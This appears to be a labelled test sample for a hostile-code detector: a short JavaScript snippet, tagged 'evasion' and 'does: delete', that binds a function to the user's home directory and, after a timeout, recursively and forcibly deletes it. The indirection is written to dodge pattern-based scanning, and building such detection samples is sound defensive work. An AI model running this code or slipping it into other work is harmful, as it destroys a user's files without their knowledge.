// evasion: a function expression bound to { dir: $HOME } with .bind and called later; it removes this.dir
// grade: hard; does: delete
const fs = require("fs");
const wipe = function () {
  fs.rmSync(this.dir, { recursive: true, force: true });
}.bind({ dir: process.env.HOME });
setTimeout(wipe, 100);
